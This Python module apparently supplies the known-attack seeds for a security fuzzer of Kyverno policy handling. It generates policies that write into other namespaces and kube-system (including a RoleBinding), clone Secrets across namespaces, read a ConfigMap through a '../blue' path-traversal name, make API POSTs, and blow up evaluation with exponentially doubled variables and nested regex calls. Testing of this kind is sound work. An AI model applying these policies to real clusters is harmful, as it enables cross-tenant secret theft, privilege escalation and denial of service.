"""Attacks that worked once, or worked on others: tried first in every run, whatever the seed."""

from collections.abc import Iterator
from typing import Any

Object = dict[str, Any]
_RBAC = "rbac.authorization.k8s.io/v1"
_DOUBLED = [{"name": "v0", "variable": {"value": {"a": "b"}}}] + [
    {"name": f"v{n}", "variable": {"jmesPath": f"{{a: v{n - 1}, b: v{n - 1}}}"}}
    for n in range(1, 45)
]


def list_known() -> Iterator[list[Object]]:
    """Policies by attack."""
    yield [_make(f"into-{name}", _generate(f"{{{{ '{name}' }}}}")) for name in ("blue", "lictor")]
    yield [
        _make("settings", _generate("{{ 'lictor' }}", name="lictor")),
        _make("binding", _generate("{{ 'kube-system' }}", kind="RoleBinding", group=_RBAC)),
    ]
    yield [_make("clone", _clone("{{ 'blue' }}")), _make("clone-list", _clone_list("{{ 'blue' }}"))]
    yield [_make("each", {"generate": {"foreach": [_each("{{ join('', ['bl', 'ue']) }}")]}})]
    yield [_make("folding", _deny(f"{{{{ {_nest(12)} }}}}"))]
    yield [_make("doubled-message", _deny("{{ v44 }}"), context=_DOUBLED)]
    yield [_make("doubled-compared", _deny("{{ v44 == v43 }}"), context=_DOUBLED)]
    yield [_make("doubled-made", _generate("red", found="{{ v44 }}"), context=_DOUBLED)]
    yield [_make("doubled-merged", _merge("{{ v44 }}"), context=_DOUBLED)]
    yield [_posting("resource.Post('v1', 'configmaps', variables.body)")]
    yield [_make("calls", _deny("{{ found }}"), context=[_call("/api/v1/namespaces/red/secrets")])]
    yield [_make("reads", _deny("{{ found }}"), context=[_look("../blue/configmaps/vault")])]
    yield [_cel_doubled("json.marshal(variables.v39) == ''")]
    yield [_cel_doubled("variables.v39 == variables.v39")]


def _make(name: str, body: Object, *, context: list[Object] | None = None) -> Object:
    rule = {
        "name": "rule",
        "match": {"any": [{"resources": {"kinds": ["ConfigMap"]}}]},
        "context": context or [],
        **body,
    }
    return {
        "apiVersion": "kyverno.io/v1",
        "kind": "Policy",
        "metadata": {"name": f"known-{name}", "namespace": "red"},
        "spec": {"failurePolicy": "Fail", "background": False, "rules": [rule]},
    }


def _deny(key: str) -> Object:
    conditions = {"any": [{"key": key, "operator": "Equals", "value": "never"}]}
    deny = {"conditions": conditions}
    return {"validate": {"failureAction": "Enforce", "message": key, "deny": deny}}


def _merge(text: str) -> Object:
    return {"mutate": {"patchStrategicMerge": {"data": {"found": text}}}}


def _generate(
    namespace: str,
    *,
    name: str = "planted",
    kind: str = "ConfigMap",
    group: str = "v1",
    found: str = "yes",
) -> Object:
    made = {"apiVersion": group, "kind": kind, "name": name, "namespace": namespace}
    return {"generate": {**made, "synchronize": True, "data": {"data": {"found": found}}}}


def _each(namespace: str) -> Object:
    made = {"apiVersion": "v1", "kind": "ConfigMap", "name": "planted", "namespace": namespace}
    return {"list": "request.object.data.keys(@)", **made, "data": {"data": {"found": "yes"}}}


def _clone(namespace: str) -> Object:
    made = {"apiVersion": "v1", "kind": "Secret", "name": "copied", "namespace": "red"}
    return {"generate": {**made, "clone": {"name": "vault", "namespace": namespace}}}


def _clone_list(namespace: str) -> Object:
    selector = {"matchLabels": {"shared": "true"}}
    listed = {"namespace": namespace, "kinds": ["v1/Secret"], "selector": selector}
    return {"generate": {"namespace": "red", "cloneList": listed}}


def _nest(depth: int) -> str:
    text = f"'{'a' * 100}'"
    for _ in range(depth):
        text = f"regex_replace_all('a', {text}, 'aaaaaaaaaa')"
    return text


def _call(path: str) -> Object:
    data = [{"key": "metadata", "value": {"generateName": "made-"}}]
    return {"name": "found", "apiCall": {"urlPath": path, "method": "POST", "data": data}}


def _look(name: str) -> Object:
    return {"name": "found", "configMap": {"name": name, "namespace": "red"}}


def _posting(expression: str) -> Object:
    body = (
        '{"apiVersion": dyn("v1"), "kind": dyn("ConfigMap"), '
        '"metadata": dyn({"generateName": "made-"})}'
    )
    return _cel("posting", [{"name": "body", "expression": body}], f"has({expression}.metadata)")


def _cel_doubled(expression: str) -> Object:
    variables = [{"name": "v0", "expression": "dyn({'a': 1})"}] + [
        {
            "name": f"v{n}",
            "expression": f"dyn({{'a': variables.v{n - 1}, 'b': variables.v{n - 1}}})",
        }
        for n in range(1, 40)
    ]
    return _cel(f"doubled-{len(expression)}", variables, expression)


def _cel(name: str, variables: list[Object], expression: str) -> Object:
    rule = {
        "apiGroups": [""],
        "apiVersions": ["v1"],
        "operations": ["CREATE"],
        "resources": ["configmaps"],
    }
    return {
        "apiVersion": "policies.kyverno.io/v1",
        "kind": "NamespacedValidatingPolicy",
        "metadata": {"name": f"known-{name}", "namespace": "red"},
        "spec": {
            "matchConstraints": {"resourceRules": [rule]},
            "variables": variables,
            "validations": [{"expression": expression, "message": "no"}],
        },
    }
